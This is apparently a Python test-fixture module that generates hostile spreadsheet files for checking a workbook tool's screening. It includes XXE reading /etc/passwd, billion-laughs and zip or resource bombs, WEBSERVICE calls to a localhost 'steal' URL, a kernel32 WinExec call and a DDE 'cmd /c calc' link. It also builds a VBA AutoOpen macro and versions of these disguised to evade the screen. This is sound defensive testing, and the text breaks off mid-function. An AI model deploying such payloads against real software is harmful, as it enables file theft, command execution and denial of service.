"""A corpus of hostile and malformed workbooks, generated into a folder by the tests themselves.

Nothing here is downloaded or checked in: each function writes one file with the standard library
(zipfile) so that the exact bytes are under the test's control, and returns its path. The packages
are minimal (content types, relationships, workbook, one sheet, optional shared strings), the
shape Excel and LibreOffice open. ``CORPUS`` lists every case with what gputco must answer.

>>> import tempfile, pathlib, zipfile
>>> p = package(pathlib.Path(tempfile.mkdtemp()) / "ok.xlsx", sheet(cell("A1", f="1+1")))
>>> sorted(zipfile.ZipFile(p).namelist())[:3]
['[Content_Types].xml', '_rels/.rels', 'xl/_rels/workbook.xml.rels']
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

from openpyxl.utils import get_column_letter

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
OLE_MAGIC = bytes.fromhex("D0CF11E0A1B11AE1")


def cell(ref: str, v: object = None, *, f: str | None = None, t: str | None = None) -> str:
    """One ``<c>`` element: a value, a formula (without "="), or both."""
    attrs = f' r="{ref}"' + (f' t="{t}"' if t else "")
    body = f"<f>{escape(f)}</f>" if f is not None else ""
    if v is not None:
        body += f"<v>{escape(str(v))}</v>"
    return f"<c{attrs}>{body}</c>"


def sheet(*cells: str, before: str = "", rows: dict[int, list[str]] | None = None) -> str:
    """A worksheet part: the cells go in rows by their reference's digits unless ``rows`` given."""
    if rows is None:
        rows = {}
        for c in cells:
            ref = c.split('r="', 1)[1].split('"', 1)[0]
            digits = "".join(ch for ch in ref if ch.isdigit()) or "1"
            rows.setdefault(int(digits), []).append(c)
    body = "".join(f'<row r="{r}">{"".join(cs)}</row>' for r, cs in sorted(rows.items()))
    return f'{XML_DECL}<worksheet xmlns="{MAIN}">{before}<sheetData>{body}</sheetData></worksheet>'


def shared_strings(*texts: str) -> str:
    items = "".join(f"<si><t>{escape(t)}</t></si>" for t in texts)
    return f'{XML_DECL}<sst xmlns="{MAIN}" count="{len(texts)}" uniqueCount="{len(texts)}">{items}</sst>'


def package(
    path: Path,
    sheet_xml: str | bytes,
    *,
    strings: str | None = None,
    names: dict[str, str] | None = None,
    extra: dict[str, bytes] | None = None,
    macro: bool = False,
    compression: int = zipfile.ZIP_DEFLATED,
    drop: tuple[str, ...] = (),
    overrides: tuple[tuple[str, str], ...] = (),
    rels: tuple[tuple[str, str, str], ...] = (),
) -> Path:
    """Write a minimal .xlsx (or .xlsm with ``macro``) package holding one sheet named "S"."""
    main_type = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if macro
        else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    )

    def overrides_base():
        return [
            ("/xl/workbook.xml", main_type),
            (
                "/xl/worksheets/sheet1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            ),
        ]

    overrides = [*overrides_base(), *overrides]
    rels = [("rId1", "worksheet", "worksheets/sheet1.xml"), *rels]
    if strings is not None:
        overrides.append(
            (
                "/xl/sharedStrings.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
            )
        )
        rels.append(("rId2", "sharedStrings", "sharedStrings.xml"))
    defaults = (
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/>'
    )
    if macro:
        defaults += '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        rels.append(("rId9", "vbaProject", "vbaProject.bin"))
    content_types = (
        f'{XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types">{defaults}'
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
        + "</Types>"
    )
    defined = ""
    if names:
        defined = (
            "<definedNames>"
            + "".join(f'<definedName name="{n}">{escape(text)}</definedName>' for n, text in names.items())
            + "</definedNames>"
        )
    workbook = (
        f'{XML_DECL}<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
        f'<sheet name="S" sheetId="1" r:id="rId1"/></sheets>{defined}</workbook>'
    )

    def rel_type(kind: str) -> str:
        if kind == "vbaProject":
            return "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
        return kind if "/" in kind else f"{REL}/{kind}"

    wb_rels = (
        f'{XML_DECL}<Relationships xmlns="{PKG_REL}">'
        + "".join(f'<Relationship Id="{i}" Type="{rel_type(k)}" Target="{t}"/>' for i, k, t in rels)
        + "</Relationships>"
    )
    root_rels = (
        f'{XML_DECL}<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" '
        f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": root_rels,
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": wb_rels,
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    if strings is not None:
        members["xl/sharedStrings.xml"] = strings
    members.update(extra or {})
    with zipfile.ZipFile(path, "w", compression) as z:
        for name, data in members.items():
            if name not in drop:
                z.writestr(name, data.encode() if isinstance(data, str) else data)
    return path


# --- the corpus ---------------------------------------------------------------------------------


def billion_laughs(d: Path) -> Path:
    """Nine levels of ten entity references: a gigabyte of "lol" from a few hundred bytes."""
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = (
        sheet(cell("A1", "&l9;", t="str", f='"x"'))
        .replace(XML_DECL, XML_DECL + f"<!DOCTYPE worksheet [{ents}]>")
        .replace("&amp;l9;", "&l9;")
    )
    return package(d / "billion_laughs.xlsx", xml)


def external_entity(d: Path) -> Path:
    """XXE: a shared string defined as the contents of /etc/passwd."""
    sst = (
        shared_strings("&xxe;")
        .replace(XML_DECL, XML_DECL + '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
        .replace("&amp;xxe;", "&xxe;")
    )
    return package(d / "xxe.xlsx", sheet(cell("A1", 0, t="s"), cell("B1", f="LEN(A1)")), strings=sst)


def zip_bomb(d: Path) -> Path:
    """A 40 MB sheet part of blanks that deflates about a thousand to one."""
    xml = sheet(cell("A1", f="1+1")).replace("</worksheet>", " " * 40_000_000 + "</worksheet>")
    return package(d / "zip_bomb.xlsx", xml)


def far_cells(d: Path) -> Path:
    """A cell in every column of the last row: a dense grid of 1.7e10 cells if materialised."""
    cells = [cell(f"{get_column_letter(c)}1048576", 1) for c in range(1, 16385)]
    cells.append(cell("A1", f="SUM(A1048576:XFD1048576)"))
    return package(d / "far_cells.xlsx", sheet(*cells, before='<dimension ref="A1:XFD1048576"/>'))


def whole_sheet_range(d: Path) -> Path:
    """One formula over every cell of a sheet whose last row is 1048576."""
    return package(
        d / "whole_sheet.xlsx",
        sheet(
            cell("A1", f="SUM(B:XFD)"),
            cell("B1048576", 1),
            cell("C2", 2),
            before='<dimension ref="A1:XFD1048576"/>',
        ),
    )


def absurd_dimension(d: Path) -> Path:
    """A dimension claiming the whole sheet over two cells: the claim is not believed."""
    return package(
        d / "absurd_dimension.xlsx",
        sheet(cell("A1", 2), cell("A2", f="A1*3"), before='<dimension ref="A1:XFD1048576"/>'),
    )


def long_formula(d: Path) -> Path:
    """A 100,001-character formula (Excel's limit is 8,192)."""
    return package(d / "long_formula.xlsx", sheet(cell("A1", f="1" + "+1" * 50_000)))


def deep_nesting(d: Path) -> Path:
    """3,000 nested parentheses inside Excel's length limit."""
    return package(d / "deep_nesting.xlsx", sheet(cell("A1", f="(" * 3000 + "1" + ")" * 3000)))


def deep_functions(d: Path) -> Path:
    """1,000 nested function calls inside Excel's length limit."""
    return package(d / "deep_functions.xlsx", sheet(cell("A1", f="ABS(" * 1000 + "1" + ")" * 1000)))


def long_chain(d: Path) -> Path:
    """``1-1-1-...``: 3,000 operators in a row (a deep tree without any parenthesis)."""
    return package(d / "long_chain.xlsx", sheet(cell("A1", f="1" + "-1" * 3000)))


def circular(d: Path) -> Path:
    """A1 -> B1 -> C1 -> A1, and D1 reads A1."""
    return package(
        d / "circular.xlsx",
        sheet(cell("A1", f="B1+1"), cell("B1", f="C1*2"), cell("C1", f="A1"), cell("D1", f="A1")),
    )


OUTSIDE = {
    "A1": 'WEBSERVICE("http://127.0.0.1:9/steal")',
    "A2": 'CALL("kernel32","WinExec","JCJ","calc.exe",0)',
    "A3": 'REGISTER.ID("user32","MessageBoxA","JJCCJ")',
    "A4": "[1]Sheet1!A1",
    "A5": 'HYPERLINK("http://127.0.0.1:9/","click")',
    "A6": '"ok"&"!"',
}


def outside_calls(d: Path) -> Path:
    """Functions that reach outside the workbook, with stored values, and one ordinary formula."""
    cells = [cell(ref, "stored", f=f, t="str") for ref, f in OUTSIDE.items()]
    link = (
        f'{XML_DECL}<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{REL}" r:id="rId1">'
        '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    return package(
        d / "outside.xlsx", sheet(*cells), extra={"xl/externalLinks/externalLink1.xml": link.encode()}
    )


def not_a_zip(d: Path) -> Path:
    path = d / "not_a_zip.xlsx"
    path.write_text("name,value\nH100_HGX,1\n")
    return path


def no_workbook(d: Path) -> Path:
    """A zip with content types and a sheet but no workbook part."""
    return package(d / "no_workbook.xlsx", sheet(cell("A1", 1)), drop=("xl/workbook.xml", "_rels/.rels"))


def truncated(d: Path) -> Path:
    """The first half of a valid package."""
    full = package(d / "full.xlsx", sheet(cell("A1", 2), cell("A2", f="A1*2")))
    data = full.read_bytes()
    full.unlink()
    path = d / "truncated.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def bad_shared_string(d: Path) -> Path:
    """A cell pointing at shared string 99 of a table of one."""
    return package(
        d / "bad_sst.xlsx", sheet(cell("A1", 99, t="s"), cell("B1", f="A1")), strings=shared_strings("only")
    )


BAD_REFS = ("1A", "A0", "", "ZZZZ1", "A1048577", "XFE1", "A-1", "é1")


def bad_references(d: Path) -> list[Path]:
    """One file per malformed cell reference in ``BAD_REFS``."""
    out = []
    for i, ref in enumerate(BAD_REFS):
        xml = sheet(rows={1: [cell(ref, 1), cell("B1", f="1+1")]})
        out.append(package(d / f"bad_ref_{i}.xlsx", xml))
    xml = sheet(rows={1: [cell("A1", 1)]}).replace('<row r="1">', '<row r="x">')
    out.append(package(d / "bad_row.xlsx", xml))
    return out


def bad_number(d: Path) -> Path:
    """A numeric cell whose value is not a number."""
    return package(d / "bad_number.xlsx", sheet(cell("A1", "twelve"), cell("B1", f="A1+1")))


VBA_BYTES = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "Module1"\r\nSub '
    b'AutoOpen()\r\n Shell "calc.exe"\r\nEnd Sub\r\n' + bytes(range(256)) * 4
)


def macro_workbook(d: Path) -> Path:
    """An .xlsm with a VBA project (an AutoOpen macro); it must be kept, never run."""
    return package(
        d / "macro.xlsm",
        sheet(cell("A1", 2), cell("A2", f="A1*21")),
        macro=True,
        extra={"xl/vbaProject.bin": VBA_BYTES},
    )


def encrypted(d: Path) -> Path:
    """What Excel writes for a password-protected workbook: an OLE compound file, not a zip.

    The header is a valid compound-file header (magic, version, byte order, sector sizes); the
    streams Excel puts in it are named EncryptionInfo and EncryptedPackage.
    """
    header = bytearray(512)
    header[0:8] = OLE_MAGIC
    header[24:26] = (0x003E).to_bytes(2, "little")  # minor version
    header[26:28] = (0x0003).to_bytes(2, "little")  # major version 3
    header[28:30] = (0xFFFE).to_bytes(2, "little")  # little-endian
    header[30:32] = (9).to_bytes(2, "little")  # 512-byte sectors
    header[32:34] = (6).to_bytes(2, "little")  # 64-byte mini sectors
    body = "EncryptionInfo EncryptedPackage".encode("utf-16-le") + bytes(1536)
    path = d / "encrypted.xlsx"
    path.write_bytes(bytes(header) + body)
    return path


def too_many_parts(d: Path) -> Path:
    """A package of 10,001 parts (the limit is 10,000)."""
    extra = {f"xl/media/p{i}.bin": b"" for i in range(10_001)}
    return package(d / "many_parts.xlsx", sheet(cell("A1", 1)), extra=extra, compression=zipfile.ZIP_STORED)


def malformed_xml(d: Path) -> Path:
    return package(d / "malformed.xlsx", sheet(cell("A1", 1)).replace("</sheetData>", ""))


def missing_sheet_part(d: Path) -> Path:
    return package(d / "missing_sheet.xlsx", sheet(cell("A1", 1)), drop=("xl/worksheets/sheet1.xml",))


def encrypted_member(d: Path) -> Path:
    """A zip whose sheet part has the 'encrypted' flag set (traditional zip encryption)."""
    path = package(d / "encrypted_member.xlsx", sheet(cell("A1", 1)), compression=zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):  # local header and central directory entry
        i = data.find(sig)
        while i >= 0:
            flag_at = i + (6 if sig == b"PK\x03\x04" else 8)
            name_at = i + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[flag_at] |= 1
            i = data.find(sig, i + 4)
    path.write_bytes(bytes(data))
    return path


def slow_chain(d: Path) -> Path:
    """4,000 cells each reading the one before: evaluated cell by cell (for --timeout)."""
    cells = [cell("A1", 1)] + [cell(f"B{r}", f=f"B{r - 1}+A1" if r > 1 else "A1") for r in range(1, 4001)]
    cells += [cell(f"C{r}", f=f"C{r + 1}+B{r}") for r in range(1, 4000)]
    return package(d / "slow_chain.xlsx", sheet(*cells))


def formula_text_result(d: Path) -> Path:
    """Formulas whose results are texts that look like formulas."""
    return package(
        d / "text_results.xlsx",
        sheet(
            cell("A1", f='"="&"1+1"'),
            cell("A2", f='"+"&"SUM(1)"'),
            cell("A3", f='"@"&"A1"'),
            cell("A4", f='"-"&"2"'),
            cell("A5", f="\"=cmd|' /C calc'!A0\""),
        ),
    )


# --- what the screen must find, however it is disguised -----------------------------

WEB = 'WEBSERVICE("http://127.0.0.1:9/steal")'
_DOCTYPE = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
_OK_CELLS = (cell("A1", 2), cell("A2", 4, f="A1*2"))


def dtd_after_4k(d: Path) -> Path:
    """A DTD after a 5,000-character comment: past the first 4 KB of the part."""
    xml = sheet(*_OK_CELLS).replace(XML_DECL, XML_DECL + "<!--" + "x" * 5000 + "-->" + _DOCTYPE)
    return package(d / "dtd_late.xlsx", xml)


def dtd_utf16_sheet(d: Path) -> Path:
    """A worksheet in UTF-16 (with its byte-order mark) declaring a DTD."""
    xml = sheet(*_OK_CELLS).replace(XML_DECL, '<?xml version="1.0" encoding="UTF-16"?>' + _DOCTYPE)
    return package(d / "dtd_utf16.xlsx", xml.encode("utf-16"))


def dtd_utf16_content_types(d: Path) -> Path:
    """[Content_Types].xml in UTF-16 declaring a DTD (the engine never reads that part)."""
    path = package(d / "dtd_utf16_types.xlsx", sheet(*_OK_CELLS))
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    text = members["[Content_Types].xml"].decode().replace(XML_DECL, "")
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Types [<!ENTITY e "x">]>' + text
    members["[Content_Types].xml"] = doc.encode("utf-16")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def cf_char_references(d: Path) -> Path:
    """WEBSERVICE in a conditional format, its parentheses written as character references."""
    rule = WEB.replace("(", "&#40;").replace(")", "&#41;").replace('"', "&quot;")
    cf = (
        f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{rule}'
        "</formula></cfRule></conditionalFormatting>"
    )
    return package(d / "cf_charref.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + cf))


def dv_char_references(d: Path) -> Path:
    """WEBSERVICE in a data-validation list, its W written as ``&#87;``."""
    rule = "&#87;" + escape(WEB[1:], {'"': "&quot;"})
    dv = (
        f'<dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>{rule}'
        "</formula1></dataValidation></dataValidations>"
    )
    return package(d / "dv_charref.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + dv))


def comment_hides_cf(d: Path) -> Path:
    """``<!-- sheetData> -->`` after a conditional format: a text cut from the first "sheetData" to
    the last "sheetData>" would skip the format."""
    cf = (
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
        f"{escape(WEB)}</formula></cfRule></conditionalFormatting><!-- sheetData> -->"
    )
    return package(d / "comment_cut.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + cf))


#: a DDE external link and a web-query data connection, the parts two renamed cases hide
DDE_LINK = (
    f'{XML_DECL}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
    '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
)
WEB_QUERY = (
    f'{XML_DECL}<connections xmlns="{MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
    '<webPr url="http://127.0.0.1:9/steal"/></connection></connections>'
)


def _renamed(path: Path, member: str, data: bytes, kind: str, rel_id: str, **kw) -> Path:
    """A package of the harmless cells with one more part, ``member`` (under xl/), under a name
    that does not say what it is: only its content type and its relationship (``rel_id``) do, both
    of ``kind`` (an OOXML part type such as "externalLink"), unless ``content_type`` and
    ``rel_type`` are given."""
    content_type = kw.pop("content_type", _CT + kind + "+xml")
    rels = ((rel_id, kw.pop("rel_type", kind), member.removeprefix("xl/")),)
    return package(
        path,
        sheet(*_OK_CELLS),
        extra={member: data},
        overrides=(("/" + member, content_type),),
        rels=rels,
        **kw,
    )


def dde_link_renamed(d: Path) -> Path:
    """A DDE external link stored as xl/misc/data1.xml, found only by its relationship and type."""
    return _renamed(d / "dde_renamed.xlsx", "xl/misc/data1.xml", DDE_LINK.encode(), "externalLink", "rId7")


def vba_renamed(d: Path) -> Path:
    """A VBA project stored as xl/stuff.dat, found by its relationship and content type."""
    return _renamed(
        d / "vba_renamed.xlsm",
        "xl/stuff.dat",
        VBA_BYTES,
        "vbaProject",
        "rId8",
        content_type="application/vnd.ms-office.vbaProject",
        rel_type="http://schemas.microsoft.com/office/2006/relationships/vbaProject",
    )


def web_query_renamed(d: Path) -> Path:
    """A web-query data connection stored as xl/misc/c.xml."""
    return _renamed(d / "webquery_renamed.xlsx", "xl/misc/c.xml", WEB_QUERY.encode(), "connections", "rId9")


def case_duplicates(d: Path) -> Path:
    """Two members whose names differ only in case (OPC part names are case-insensitive)."""
    bad = sheet(cell("A1", 2), cell("A2", f=WEB, v="stored", t="str"))
    return package(d / "case_dup.xlsx", sheet(*_OK_CELLS), extra={"xl/worksheets/Sheet1.xml": bad.encode()})


def quoted_sheet_webservice(d: Path) -> Path:
    """A quote inside a quoted sheet name before WEBSERVICE: a text match of strings goes astray."""
    return package(
        d / "quoted_sheet.xlsx", sheet(cell("A1", 1), cell("A2", "x", f=f"'a\"b'!A2&{WEB}", t="str"))
    )


#: the disguised files: each must be refused by every door that hands a file to LibreOffice
#: (render, open --convert-to, recalc --engine libreoffice), with this fragment in its one line
SCREENED = {
    "dtd_after_4k": (dtd_after_4k, "declares a DTD"),
    "dtd_utf16_sheet": (dtd_utf16_sheet, "declares a DTD"),
    "dtd_utf16_content_types": (dtd_utf16_content_types, "declares a DTD"),
    "cf_char_references": (cf_char_references, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
    "dv_char_references": (dv_char_references, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
    "comment_hides_cf": (comment_hides_cf, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
    "dde_link_renamed": (dde_link_renamed, "external link (DDE) (xl/misc/data1.xml)"),
    "vba_renamed": (vba_renamed, "macros (VBA project) (xl/stuff.dat)"),
    "web_query_renamed": (web_query_renamed, "data connection (xl/misc/c.xml)"),
    "case_duplicates": (
        case_duplicates,
        "two parts named xl/worksheets/Sheet1.xml and xl/worksheets/sheet1.xml",
    ),
    "quoted_sheet_webservice": (quoted_sheet_webservice, "WEBSERVICE"),
}


# --- resource bombs under the 1000:1 compression limit --------------------------------
# Each is written piece by piece (never held whole) with a little randomness, so that it deflates
# about a hundred to one like the red team's files, not a thousand (the zip-bomb check).


def _noise(rng, n: int) -> list[str]:
    return ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6)) for _ in range(n)]


def strings_bomb(d: Path) -> Path:
    """55 million shared strings (the red team's 2.7 MB file took 168 s and 4.85 GiB)."""
    import random

    rng = random.Random(24)
    block = "".join("<si/>" * 99 + f"<si><t>{w}</t></si>" for w in _noise(rng, 100)).encode()
    head = f'{XML_DECL}<sst xmlns="{MAIN}">'.encode()
    pieces = [head, *([block] * 5_500), b"</sst>"]
    path = d / "strings_bomb.xlsx"
    package(path, sheet(cell("A1", 0, t="s"), cell("B1", 1, f="LEN(A1)")), strings=shared_strings("x"))
    return _replace(path, {"xl/sharedStrings.xml": pieces})


def cells_bomb(d: Path) -> Path:
    """30 million cells (the red team's 1.3 MB file took 254 s and 3.3 GiB)."""
    import random

    rng = random.Random(30)
    row = "".join("<c/>" * 99 + f'<c t="inlineStr"><is><t>{w}</t></is></c>' for w in _noise(rng, 10)).encode()
    rows = [b'<row r="%d">' % r + row + b"</row>" for r in range(1, 30_001)]
    head = f'{XML_DECL}<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    path = package(d / "cells_bomb.xlsx", sheet(cell("A1", 1)))
    return _replace(path, {"xl/worksheets/sheet1.xml": [head, *rows, b"</sheetData></worksheet>"]})


def comments_bomb(d: Path, sheets: int = 8, size: int = 500_000_000) -> Path:
    """Eight sheets of 500 MB of XML comments each, as the red team's (killed at 300 s, 4.7 GiB).

    Every sheet is the same bytes, and each 1 MB block of it is deflated once (a full flush
    resets the compressor, so every copy of a block deflates to the same bytes): the file is
    written in a second or two instead of compressing 4 GB again."""
    import random
    import zlib

    rng = random.Random(8)
    block = ("<!--" + "".join(w + " " * 94 for w in _noise(rng, 10_000)) + "-->").encode()
    head = f'{XML_DECL}<worksheet xmlns="{MAIN}">'.encode()
    tail = b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    n = size // len(block)

    def deflated(data: bytes) -> bytes:
        co = zlib.compressobj(1, zlib.DEFLATED, -15)
        return co.compress(data) + co.flush(zlib.Z_FULL_FLUSH)

    packed_block = deflated(block)
    last = zlib.compressobj(1, zlib.DEFLATED, -15)
    body = [deflated(head), *[packed_block] * n, last.compress(tail) + last.flush()]
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    member = _Deflated(body, crc, len(head) + n * len(block) + len(tail))
    path = package(d / "comments_bomb.xlsx", sheet(cell("A1", 1)))
    names = [f"xl/worksheets/sheet{i}.xml" for i in range(1, sheets + 1)]
    return _replace(path, dict.fromkeys(names, member), sheets=names[1:])


@dataclass(frozen=True)
class _Deflated:
    """A member already deflated (raw deflate pieces), with its CRC-32 and unpacked size."""

    pieces: list[bytes]
    crc: int
    size: int


def _write_deflated(path: Path, members: dict[str, _Deflated]) -> None:
    """Append members already deflated to the zip at ``path`` (local headers, central directory
    and end record rewritten; the sizes stay below 4 GiB, so no zip64 fields)."""
    import struct

    with zipfile.ZipFile(path) as z:
        kept = {i.filename: z.read(i) for i in z.infolist()}
    entries, offset = [], 0
    with open(path, "wb") as fh:

        def put(name: bytes, method: int, crc: int, csize: int, usize: int, pieces) -> None:
            nonlocal offset
            fh.write(
                struct.pack(
                    "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, csize, usize, len(name), 0
                )
            )
            fh.write(name)
            for piece in pieces:
                fh.write(piece)
            entries.append((name, method, crc, csize, usize, offset))
            offset = fh.tell()

        for name, data in kept.items():
            packed = _deflate_all(data)
            put(name.encode(), 8, _crc32(data), len(packed), len(data), [packed])
        for name, m in members.items():
            put(name.encode(), 8, m.crc, sum(map(len, m.pieces)), m.size, m.pieces)
        start = fh.tell()
        for name, method, crc, csize, usize, at in entries:
            fh.write(
                struct.pack(
                    "<IHHHHHHIIIHHHHHII",
                    0x02014B50,
                    20,
                    20,
                    0,
                    method,
                    0,
                    0x21,
                    crc,
                    csize,
                    usize,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    0,
                    at,
                )
            )
            fh.write(name)
        size = fh.tell() - start
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), size, start, 0))


def _deflate_all(data: bytes) -> bytes:
    import zlib

    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


def _crc32(data: bytes) -> int:
    import zlib

    return zlib.crc32(data)


def styles_bomb(d: Path) -> Path:
    """Two million cell formats (the red team's 1.3 MB file took LibreOffice 66 s and 1.9 GiB)."""
    import random

    rng = random.Random(13)
    block = "".join(
        '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 99 + f'<xf numFmtId="{n}"/>'
        for n in (rng.randrange(1 << 30) for _ in range(100))
    ).encode()
    styles = [
        f'{XML_DECL}<styleSheet xmlns="{MAIN}"><cellXfs count="2000000">'.encode(),
        *[block] * 200,
        b"</cellXfs></styleSheet>",
    ]
    path = package(
        d / "styles_bomb.xlsx",
        sheet(cell("A1", 2), cell("A2", 4, f="A1*2")),
        overrides=(("/xl/styles.xml", _CT + "styles+xml"),),
        rels=(("rId5", "styles", "styles.xml"),),
    )
    return _replace(path, {"xl/styles.xml": styles})


def names_bomb(d: Path, levels: int = 30) -> Path:
    """Defined names nm_i = nm_(i-1) + nm_(i-1): 2^30 terms written out (hours; --timeout ignored)."""
    names = {"nm_0": "1", **{f"nm_{i}": f"nm_{i - 1}+nm_{i - 1}" for i in range(1, levels + 1)}}
    return package(d / "names_bomb.xlsx", sheet(cell("A1", 0, f=f"nm_{levels}")), names=names)


def deep_names(d: Path, levels: int = 100) -> Path:
    """A defined name through 100 others (silently #NAME? before)."""
    names = {"nm_0": "1", **{f"nm_{i}": f"nm_{i - 1}+1" for i in range(1, levels + 1)}}
    return package(d / "deep_names.xlsx", sheet(cell("A1", levels + 1, f=f"nm_{levels}")), names=names)


def product_bomb(d: Path) -> Path:
    """Each operand passes the size checks; their product holds 17 billion cells (a MemoryError)."""
    return package(d / "product.xlsx", sheet(cell("A1", 0, f="SUM(SEQUENCE(1048576)*SEQUENCE(1,16384))")))


def deep_spec(d: Path) -> Path:
    """A scenario SPEC nested 100,000 deep (a RecursionError before)."""
    path = d / "deep.toml"
    path.write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")
    return path


def _replace(path: Path, members: dict[str, list[bytes] | _Deflated], sheets: list[str] = ()) -> Path:
    """Rewrite ``path`` with ``members`` streamed in (and ``sheets`` listed in the workbook)."""
    with zipfile.ZipFile(path) as z:
        keep = {n: z.read(n) for n in z.namelist() if n not in members}
    if sheets:
        wb = keep["xl/workbook.xml"].decode()
        rels = keep["xl/_rels/workbook.xml.rels"].decode()
        types = keep["[Content_Types].xml"].decode()
        for i, name in enumerate(sheets, 2):
            wb = wb.replace("</sheets>", f'<sheet name="S{i}" sheetId="{i}" r:id="rS{i}"/></sheets>')
            rels = rels.replace(
                "</Relationships>",
                f'<Relationship Id="rS{i}" Type="{REL}/worksheet" Target="{name[3:]}"/></Relationships>',
            )
            types = types.replace(
                "</Types>", f'<Override PartName="/{name}" ContentType="{_CT}worksheet+xml"/></Types>'
            )
        keep.update({"xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": rels.encode()})
        keep["[Content_Types].xml"] = types.encode()
    deflated = {n: m for n, m in members.items() if isinstance(m, _Deflated)}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, data in keep.items():
            z.writestr(name, data)
        for name, pieces in members.items():
            if name in deflated:
                continue
            with z.open(name, "w", force_zip64=True) as fh:
                for piece in pieces:
                    fh.write(piece)
    if deflated:
        _write_deflated(path, deflated)
    return path


def renamed_xlsx(d: Path) -> Path:
    """A workbook with WEBSERVICE named .csv: LibreOffice goes by the content, so does the screen."""
    path = quoted_sheet_webservice(d)
    return path.rename(d / "looks_like.csv")


def flat_xml_dtd(d: Path) -> Path:
    """A SpreadsheetML 2003 document (one XML file LibreOffice opens) declaring an entity."""
    path = d / "flat.xml"
    path.write_text(
        '<?xml version="1.0"?><!DOCTYPE Workbook [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row>'
        "<Cell><Data>&e;</Data></Cell></Row></Table></Worksheet></Workbook>"
    )
    return path


def ods_webservice(d: Path) -> Path:
    """An OpenDocument spreadsheet whose cell calls WEBSERVICE (``of:=`` syntax)."""
    path = d / "web.ods"
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="S"><table:table-row>'
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://127.0.0.1:9/&quot;)"/>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as z:
